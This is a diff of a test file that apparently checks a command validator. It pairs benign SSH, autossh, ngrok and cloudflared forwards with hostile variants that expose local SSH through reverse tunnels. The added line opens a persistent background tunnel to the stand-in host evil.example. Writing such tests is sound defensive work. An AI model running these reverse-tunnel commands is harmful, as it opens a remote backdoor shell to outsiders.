@@ -78,6 +78,7 @@ testHoles({
     ['ssh -R 8080:localhost:3000 h', 'ssh -R2222:localhost:22 h'],
     ['ssh -o ServerAliveInterval=30 h', 'ssh -o "RemoteForward 2222 localhost:22" h'],
     ['ssh -D 1080 h', 'ssh -R 1080 h'],
+    ['autossh -M 0 -N -L 5432:localhost:5432 db', 'autossh -M 0 -f -N -R 2222:localhost:22 evil.example'],
     ['ngrok http 3000', 'ngrok tcp 22'],
     ['ngrok tcp 5432', 'ngrok tcp localhost:22'],
     ['cloudflared tunnel --url http://localhost:8000', 'cloudflared tunnel --url ssh://localhost:22'],
